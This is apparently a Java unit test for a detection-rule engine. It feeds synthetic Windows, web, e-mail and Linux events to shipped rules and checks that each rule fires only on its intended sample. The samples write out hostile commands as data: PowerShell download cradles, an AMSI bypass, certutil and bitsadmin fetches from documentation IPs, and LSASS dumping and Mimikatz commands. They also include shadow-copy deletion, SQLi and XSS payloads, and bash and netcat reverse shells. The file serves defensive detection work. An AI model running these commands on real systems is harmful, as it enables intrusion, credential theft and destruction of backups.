package io.centinela.sigma.ownrules;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.centinela.sigma.SigmaEvaluator;
import io.centinela.sigma.load.LoadResult;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Each shipped rule fires on a realistic event written for this test (Sysmon/Security/System/PowerShell in
 * evtx_dump JSON, web and e-mail in ECS, Linux in ECS with host.os), and each sample fires exactly the expected
 * rules, so overlaps between rules are deliberate. Benign look-alikes check the rules' precision.
 */
class OwnRulesSampleEventsTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static SigmaEvaluator rules;
    private static final Set<String> FIRED = new HashSet<>();

    static final String ENC_CRADLE = "Encoded PowerShell Command Hiding a Download Cradle";
    static final String ENC_STEALTH = "PowerShell Encoded Command With Hidden Window or Policy Bypass";
    static final String CRADLE = "PowerShell Download Cradle In Command Line";
    static final String SCRIPTBLOCK = "Download Cradle Or AMSI Tampering In PowerShell Script Block";
    static final String CERTUTIL = "Certutil Used To Download A Remote File";
    static final String BITS = "Bitsadmin Transfer Job Fetching A Remote File";
    static final String LOLBIN = "Proxy Execution Binary Loading Remote Or Inline Script";
    static final String SHADOW = "Volume Shadow Copies Or Backup Catalog Deleted";
    static final String CLEAR_CLI = "Windows Event Log Cleared From The Command Line";
    static final String CLEARED = "Security Audit Log Cleared";
    static final String SERVICE = "Service Installed With A Script Host Or User-Writable Image Path";
    static final String SC = "Service Created With Sc.exe Pointing At A Shell Or Temp Folder";
    static final String SCHTASKS = "Scheduled Task Created To Run A Script Host";
    static final String OFFICE = "Office Application Starts A Shell Or Script Host";
    static final String LSASS = "LSASS Opened With Memory-Read Access By An Unexpected Process";
    static final String DUMP = "LSASS Memory Dump Through Procdump Or Comsvcs MiniDump";
    static final String MIMIKATZ = "Mimikatz Module Commands In A Command Line";
    static final String RUNKEY = "Run Key Set To Launch A Script Host Or User-Writable Binary";
    static final String REGADD = "Reg.exe Adds An Autostart Run Value";
    static final String SQLI_KW = "SQL Injection Keywords In Web Request";
    static final String SQLI_TAUT = "SQL Injection Boolean Tautology In Web Request";
    static final String TRAVERSAL = "Directory Traversal Sequence In Web Request";
    static final String XSS = "Cross-Site Scripting Payload In Web Request";
    static final String CMDI = "OS Command Injection In Web Request";
    static final String SSI = "Server-Side Include Or CRLF Header Injection In Web Request";
    static final String SCANNER = "Vulnerability Scanner User-Agent";
    static final String PROBE = "Probe For Backup, Include Or Version-Control Files On Web Server";
    static final String EXE_ATT = "E-Mail With Executable Or Script Attachment";
    static final String MACRO_ATT = "E-Mail With Macro-Capable Office Attachment";
    static final String INVOICE = "Payment Or Invoice Lure With Document, Archive Or HTML Attachment";
    static final String ZIP_PWD = "Archive Attachment With Password In Message Body";
    static final String HTML_ATT = "E-Mail With HTML Or SVG Attachment";
    static final String LOOKALIKE = "Sender Domain Imitating A Well-Known Brand With Character Swaps";
    static final String REPLY_TO = "Account Or Payment Lure With Reply-To Different From Sender";
    static final String IP_LINK = "E-Mail Link Pointing At A Raw IP Address";
    static final String FREE_HOST = "E-Mail Link To Free Web Hosting Or Tunnel Service";
    static final String MAVINJECT = "Mavinject Injecting A DLL Into A Running Process";
    static final String CMSTP = "Cmstp Silently Installing An INF Profile";
    static final String MACRO_CONTENT = "Attachment Content Shows An Auto-Executing Macro That Runs Commands";
    static final String REVSHELL = "Interactive Reverse Shell Command Line On Linux";

    record Sample(String name, String json, Set<String> expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void load() {
        LoadResult r = OwnRules.load();
        assertTrue(r.rejected().isEmpty());
        rules = OwnRules.standalone(); // as the service sees them (base rules of correlations are not alerts)
    }

    static List<Sample> samples() {
        String ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        String encoded = Base64.getEncoder().encodeToString(
                "$c=New-Object System.Net.WebClient;IEX $c.DownloadString('https://198.51.100.7/update.ps1')"
                        .getBytes(StandardCharsets.UTF_16LE));
        return List.of(
                // ---- Windows process creation ----
                new Sample("encoded cradle, hidden, from explorer", proc(ps,
                        "powershell.exe -nop -w hidden -enc " + encoded, "C:\\Windows\\explorer.exe"),
                        Set.of(ENC_CRADLE, ENC_STEALTH)),
                new Sample("encoded benign script, no stealth flags", proc(ps, "powershell.exe -enc "
                        + Base64.getEncoder().encodeToString("Get-ChildItem C:\\Reports".getBytes(StandardCharsets.UTF_16LE)),
                        "C:\\Windows\\explorer.exe"), Set.of()),
                new Sample("clear-text cradle via slash flags", proc(ps,
                        "powershell /noprofile /c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')\"",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(CRADLE)),
                new Sample("admin inventory script", proc(ps, "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1",
                        "C:\\Windows\\explorer.exe"), Set.of()),
                new Sample("certutil urlcache", proc("C:\\Windows\\System32\\certutil.exe",
                        "certutil.exe -urlcache -split -f http://203.0.113.5/b.exe C:\\Users\\Public\\b.exe",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(CERTUTIL)),
                new Sample("certutil hash of a file", proc("C:\\Windows\\System32\\certutil.exe",
                        "certutil -hashfile C:\\Temp\\setup.msi SHA256", "C:\\Windows\\System32\\cmd.exe"), Set.of()),
                new Sample("bitsadmin transfer", proc("C:\\Windows\\System32\\bitsadmin.exe",
                        "bitsadmin /transfer job1 /download /priority high https://203.0.113.5/p.exe C:\\Windows\\Temp\\p.exe",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(BITS)),
                new Sample("mshta remote hta", proc("C:\\Windows\\System32\\mshta.exe",
                        "mshta.exe https://203.0.113.5/invoice.hta", "C:\\Windows\\explorer.exe"), Set.of(LOLBIN)),
                new Sample("regsvr32 squiblydoo", proc("C:\\Windows\\System32\\regsvr32.exe",
                        "regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of(LOLBIN)),
                new Sample("rundll32 javascript", proc("C:\\Windows\\System32\\rundll32.exe",
                        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of(LOLBIN)),
                new Sample("rundll32 control panel applet", proc("C:\\Windows\\System32\\rundll32.exe",
                        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\explorer.exe"), Set.of()),
                new Sample("vssadmin delete shadows", proc("C:\\Windows\\System32\\vssadmin.exe",
                        "vssadmin.exe Delete Shadows /All /Quiet", "C:\\Windows\\System32\\cmd.exe"), Set.of(SHADOW)),
                new Sample("wmic shadowcopy delete", proc("C:\\Windows\\System32\\wbem\\WMIC.exe",
                        "wmic shadowcopy delete /nointeractive", "C:\\Windows\\System32\\cmd.exe"), Set.of(SHADOW)),
                new Sample("vssadmin list shadows", proc("C:\\Windows\\System32\\vssadmin.exe",
                        "vssadmin list shadows", "C:\\Windows\\System32\\cmd.exe"), Set.of()),
                new Sample("wevtutil cl security", proc("C:\\Windows\\System32\\wevtutil.exe",
                        "wevtutil cl Security", "C:\\Windows\\System32\\cmd.exe"), Set.of(CLEAR_CLI)),
                new Sample("wevtutil query", proc("C:\\Windows\\System32\\wevtutil.exe",
                        "wevtutil qe System /c:5 /f:text", "C:\\Windows\\System32\\cmd.exe"), Set.of()),
                new Sample("sc create with cmd binpath", proc("C:\\Windows\\System32\\sc.exe",
                        "sc.exe create UpdSvc binPath= \"cmd.exe /c C:\\Users\\Public\\svc.exe\" start= auto",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(SC)),
                new Sample("schtasks powershell", proc("C:\\Windows\\System32\\schtasks.exe",
                        "schtasks /create /sc onlogon /tn Updater /tr \"powershell.exe -w hidden -f C:\\Users\\Public\\u.ps1\"",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(SCHTASKS)),
                new Sample("schtasks query", proc("C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo LIST",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of()),
                new Sample("excel spawns cmd", proc("C:\\Windows\\System32\\cmd.exe",
                        "cmd.exe /c echo hi", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"), Set.of(OFFICE)),
                new Sample("procdump lsass", proc("C:\\Tools\\procdump64.exe",
                        "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of(DUMP)),
                new Sample("procdump of another process", proc("C:\\Tools\\procdump64.exe",
                        "procdump64.exe -accepteula -ma w3wp.exe C:\\Temp\\w.dmp", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of()),
                new Sample("comsvcs minidump", proc("C:\\Windows\\System32\\rundll32.exe",
                        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(DUMP)),
                new Sample("mimikatz renamed", proc("C:\\Users\\Public\\m.exe",
                        "m.exe \"privilege::debug\" \"lsadump::sam\" exit", "C:\\Windows\\System32\\cmd.exe"), Set.of(MIMIKATZ)),
                new Sample("reg add run key", proc("C:\\Windows\\System32\\reg.exe",
                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe",
                        "C:\\Windows\\System32\\cmd.exe"), Set.of(REGADD)),
                new Sample("mavinject injection", proc("C:\\Windows\\System32\\mavinject.exe",
                        "mavinject.exe 4120 /INJECTRUNNING C:\\Users\\Public\\hook.dll", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of(MAVINJECT)),
                new Sample("mavinject by app-v", proc("C:\\Windows\\System32\\mavinject.exe",
                        "mavinject.exe 4120 /INJECTRUNNING \"C:\\Program Files\\Microsoft Application Virtualization\\Client\\Subsystems\\AppVEntSubsystems64.dll\"",
                        "C:\\Windows\\System32\\svchost.exe"), Set.of()),
                new Sample("cmstp silent inf", proc("C:\\Windows\\System32\\cmstp.exe",
                        "cmstp.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\corpvpn.inf /au", "C:\\Windows\\System32\\cmd.exe"),
                        Set.of(CMSTP)),
                new Sample("security 4688 certutil", security4688("C:\\Windows\\System32\\certutil.exe",
                        "certutil -urlcache -f https://203.0.113.5/a.txt a.txt"), Set.of(CERTUTIL)),
                // ---- other Windows categories ----
                new Sample("lsass access by tool", sysmon(10, obj("SourceImage", "C:\\Users\\Public\\t.exe",
                        "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1410")), Set.of(LSASS)),
                new Sample("lsass access by defender", sysmon(10, obj("SourceImage",
                        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe",
                        "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1410")), Set.of()),
                new Sample("lsass limited query access", sysmon(10, obj("SourceImage", "C:\\Users\\Public\\t.exe",
                        "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1000")), Set.of()),
                new Sample("run key to powershell", sysmon(13, obj("EventType", "SetValue",
                        "Image", "C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe",
                        "TargetObject", "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                        "Details", "powershell.exe -w hidden -f C:\\Users\\Public\\u.ps1")), Set.of(RUNKEY)),
                new Sample("run key to program files", sysmon(13, obj("EventType", "SetValue",
                        "Image", "C:\\Program Files\\Vendor\\setup.exe",
                        "TargetObject", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Vendor",
                        "Details", "\"C:\\Program Files\\Vendor\\tray.exe\" /background")), Set.of()),
                new Sample("script block amsi bypass", windows(4104, "Microsoft-Windows-PowerShell",
                        "Microsoft-Windows-PowerShell/Operational", obj("ScriptBlockText",
                                "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)")),
                        Set.of(SCRIPTBLOCK)),
                new Sample("service 7045 powershell", windows(7045, "Service Control Manager", "System",
                        obj("ServiceName", "WinUpd", "ImagePath", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c ...",
                                "ServiceType", "user mode service", "StartType", "demand start")), Set.of(SERVICE)),
                new Sample("service 7045 driver in system32", windows(7045, "Service Control Manager", "System",
                        obj("ServiceName", "VendorSvc", "ImagePath", "\"C:\\Program Files\\Vendor\\svc.exe\"",
                                "ServiceType", "user mode service", "StartType", "auto start")), Set.of()),
                new Sample("security log cleared", windows(1102, "Microsoft-Windows-Eventlog", "Security", obj()),
                        Set.of(CLEARED)),
                // ---- web ----
                new Sample("union select", web("/products", "cat=1%20UNION%20SELECT%20null,version()--", null, null),
                        Set.of(SQLI_KW)),
                new Sample("stacked drop table", web("/account", "name=x%27%3B+DROP+TABLE+users%3B--", null, null),
                        Set.of(SQLI_KW)),
                new Sample("tautology in login body", web("/login", null, "user=admin'+or+'1'%3D'1&pass=x", null),
                        Set.of(SQLI_TAUT)),
                new Sample("traversal", web("/download", "file=..%2f..%2f..%2fetc%2fpasswd", null, null), Set.of(TRAVERSAL)),
                new Sample("xss", web("/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", null, null),
                        Set.of(XSS)),
                new Sample("command injection", web("/ping", "host=127.0.0.1%3Bcat%20/etc/hosts", null, null), Set.of(CMDI)),
                new Sample("ssi exec", web("/guestbook", null, "msg=%3C%21--%23exec+cmd%3D%22id%22--%3E", null), Set.of(SSI)),
                new Sample("sqlmap agent", web("/products", "id=5", null, "sqlmap/1.8.4#stable (https://sqlmap.org)"),
                        Set.of(SCANNER)),
                new Sample("git config probe", web("/.git/config", null, null, null), Set.of(PROBE)),
                new Sample("normal search with apostrophe", web("/search", "q=women's+shoes+or+boots", null, null), Set.of()),
                new Sample("normal login", web("/login", null, "user=alice&pass=Tr0ub4dor%263", null), Set.of()),
                // ---- e-mail ----
                new Sample("zip with password and invoice lure", email("accounts@supplier-billing.example", null,
                        "Invoice 99812 payment reminder", "Attached. The archive password: 2211",
                        List.of("Invoice_99812.zip"), List.of()), Set.of(INVOICE, ZIP_PWD)),
                new Sample("script attachment", email("hr@corp-benefits.example", null, "Benefits enrolment",
                        "Open the form.", List.of("Form.js"), List.of()), Set.of(EXE_ATT)),
                new Sample("xlsm attachment", email("ops@partner.example", null, "Q3 figures", "See sheet.",
                        List.of("figures.xlsm"), List.of()), Set.of(MACRO_ATT)),
                new Sample("html attachment", email("no-reply@voicemail-alerts.example", null, "New voicemail",
                        "Play the message.", List.of("voicemail.html"), List.of()), Set.of(HTML_ATT)),
                new Sample("lookalike sender", email("security@paypa1-account.example", null, "Notice", "Sign in.",
                        List.of(), List.of()), Set.of(LOOKALIKE)),
                new Sample("reply-to mismatch", email("ceo@corp.example", "ceo.office@freemail.example",
                        "Urgent wire transfer today", "Are you at your desk?", List.of(), List.of()), Set.of(REPLY_TO)),
                new Sample("reply-to equal to sender", email("it@corp.example", "it@corp.example",
                        "Mailbox quota reached", "Archive old mail.", List.of(), List.of()), Set.of()),
                new Sample("ip link", email("notice@parcel-track.example", null, "Delivery failed", "Reschedule.",
                        List.of(), List.of("http://203.0.113.77/track/index.php")), Set.of(IP_LINK)),
                new Sample("private ip link", email("printer@corp.example", null, "Scan ready", "Scan stored.",
                        List.of(), List.of("http://192.168.1.20/scans/1.pdf")), Set.of()),
                new Sample("free hosting link", email("support@docs-share.example", null, "Shared document", "View.",
                        List.of(), List.of("https://doc-view-4471.web.app/login")), Set.of(FREE_HOST)),
                new Sample("macro text in attachment content", emailWithContent("Sub Document_Open()\r\n"
                        + "  CreateObject(\"WScript.Shell\").Run \"cmd /c calc\", 0\r\nEnd Sub\r\n"), Set.of(MACRO_CONTENT)),
                new Sample("text attachment mentioning powershell only", emailWithContent("Notes: install powershell 7 on the build hosts."),
                        Set.of()),
                new Sample("ordinary team mail", email("colleague@corp.example", null, "Weekly team sync",
                        "Agenda attached.", List.of("agenda.docx"), List.of("https://intranet.corp.example/wiki")), Set.of()),
                // ---- linux ----
                new Sample("bash reverse shell", linux("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1'"),
                        Set.of(REVSHELL)),
                new Sample("netcat reverse shell", linux("/usr/bin/nc.traditional", "nc 203.0.113.8 4444 -e /bin/sh"),
                        Set.of(REVSHELL)),
                new Sample("netcat port check", linux("/usr/bin/nc", "nc -zv db.internal 5432"), Set.of()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("samples")
    void sampleFiresExactlyTheExpectedRules(Sample s) {
        Set<String> fired = OwnRules.titles(rules, OwnRules.parse(s.json()));
        assertEquals(new TreeSet<>(s.expected()), fired, s.name());
        synchronized (FIRED) {
            FIRED.addAll(fired);
        }
    }

    @Test
    void everyShippedRuleHasAFiringSample() {
        Set<String> fired = new HashSet<>();
        for (Sample s : samples()) {
            fired.addAll(OwnRules.titles(rules, OwnRules.parse(s.json())));
        }
        Set<String> all = new TreeSet<>();
        for (var f : OwnRules.load().reports()) {
            if (!f.file().contains("/correlation/")) { // multi-event rules: OwnCorrelationRulesTest
                all.add(f.title());
            }
        }
        all.removeAll(fired);
        assertEquals(Set.of(), all, "rules without a firing sample");
    }

    // ---- event builders (shapes as the collectors emit them) ----

    static ObjectNode obj(String... kv) {
        ObjectNode o = JSON.createObjectNode();
        for (int i = 0; i < kv.length; i += 2) {
            o.put(kv[i], kv[i + 1]);
        }
        return o;
    }

    static String windows(int eventId, String provider, String channel, ObjectNode data) {
        ObjectNode root = JSON.createObjectNode();
        ObjectNode event = root.putObject("Event");
        ObjectNode system = event.putObject("System");
        system.putObject("Provider").putObject("#attributes").put("Name", provider);
        system.put("EventID", eventId);
        system.put("Channel", channel);
        system.put("Computer", "WS-TEST-01.corp.example");
        system.putObject("TimeCreated").putObject("#attributes").put("SystemTime", "2026-11-20T10:00:00.000Z");
        event.set("EventData", data);
        return root.toString();
    }

    static String sysmon(int eventId, ObjectNode data) {
        return windows(eventId, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", data);
    }

    static String proc(String image, String commandLine, String parent) {
        return sysmon(1, obj("Image", image, "CommandLine", commandLine, "ParentImage", parent,
                "User", "CORP\\bob", "IntegrityLevel", "Medium"));
    }

    static String security4688(String image, String commandLine) {
        return windows(4688, "Microsoft-Windows-Security-Auditing", "Security", obj("NewProcessName", image,
                "CommandLine", commandLine, "ParentProcessName", "C:\\Windows\\System32\\cmd.exe"));
    }

    static String web(String path, String query, String body, String userAgent) {
        ObjectNode root = JSON.createObjectNode();
        root.put("@timestamp", "2026-11-20T10:00:00.000Z");
        root.putObject("event").put("kind", "event").put("category", "web").put("dataset", "nginx.access");
        root.putObject("source").put("ip", "198.51.100.23");
        ObjectNode url = root.putObject("url");
        url.put("path", path);
        url.put("domain", "shop.example");
        url.put("original", query == null ? path : path + "?" + query);
        if (query != null) {
            url.put("query", query);
        }
        ObjectNode request = root.putObject("http").putObject("request");
        request.put("method", body == null ? "GET" : "POST");
        if (body != null) {
            request.putObject("body").put("content", body);
        }
        root.putObject("user_agent").put("original", userAgent != null ? userAgent
                : "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36");
        return root.toString();
    }

    static String email(String from, String replyTo, String subject, String body, List<String> attachments, List<String> urls) {
        ObjectNode root = JSON.createObjectNode();
        root.put("@timestamp", "2026-11-20T10:00:00.000Z");
        root.putObject("event").put("kind", "event").put("category", "email").put("dataset", "mail.gateway");
        ObjectNode email = root.putObject("email");
        email.putObject("from").putArray("address").add(from);
        email.putObject("to").putArray("address").add("alice@corp.example");
        ArrayNode rt = email.putObject("reply_to").putArray("address");
        if (replyTo != null) {
            rt.add(replyTo);
        }
        email.put("subject", subject);
        email.put("body_text", body);
        ArrayNode u = email.putArray("urls");
        urls.forEach(u::add);
        ArrayNode atts = email.putArray("attachments");
        for (String name : attachments) {
            atts.addObject().putObject("file").put("name", name);
        }
        return root.toString();
    }

    static String emailWithContent(String text) {
        ObjectNode root = (ObjectNode) parseTree(email("colleague@corp.example", null, "Notes", "See attached.", List.of(), List.of()));
        ObjectNode file = ((ArrayNode) root.path("email").path("attachments")).addObject().putObject("file");
        file.put("name", "notes.txt");
        file.put("content", Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.ISO_8859_1)));
        return root.toString();
    }

    static com.fasterxml.jackson.databind.JsonNode parseTree(String json) {
        try {
            return JSON.readTree(json);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static String linux(String exe, String commandLine) {
        ObjectNode root = JSON.createObjectNode();
        root.put("@timestamp", "2026-11-20T10:00:00.000Z");
        root.putObject("host").put("name", "web-01").putObject("os").put("type", "linux");
        root.putObject("event").put("category", "process").put("type", "start");
        root.putObject("process").put("executable", exe).put("command_line", commandLine);
        return root.toString();
    }
}
